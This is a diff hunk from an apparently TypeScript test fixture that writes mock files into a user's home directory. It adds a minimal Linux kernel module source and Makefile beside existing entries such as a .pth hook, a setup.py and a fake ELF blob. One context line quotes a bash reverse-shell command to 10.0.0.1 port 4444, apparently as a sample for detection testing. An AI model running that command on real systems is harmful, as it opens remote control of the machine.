@@ -106,6 +106,8 @@ function projects(tree: Tree): void {
 	tree.write('/home/ada/src/tool/.venv/lib/python3.11/site-packages/distutils-precedence.pth', "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim();\n", ada);
 	tree.write('/home/ada/src/tool/setup.py', 'import subprocess\nsubprocess.run(["make"])\n', ada);
 	tree.write('/home/ada/src/exploit-course/README.md', 'Notes of a course: bash -i >& /dev/tcp/10.0.0.1/4444 0>&1 is a reverse shell.\n', ada);
+	tree.write('/home/ada/src/driver/hello.c', '#include <linux/module.h>\nMODULE_LICENSE("GPL");\n', ada);
+	tree.write('/home/ada/src/driver/Makefile', 'obj-m += hello.o\n', ada);
 	tree.write('/home/ada/src/driver/hello.ko', Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01'), Buffer.alloc(9), Buffer.from([1, 0, 62, 0]), Buffer.alloc(600)]), ada);
 }
 
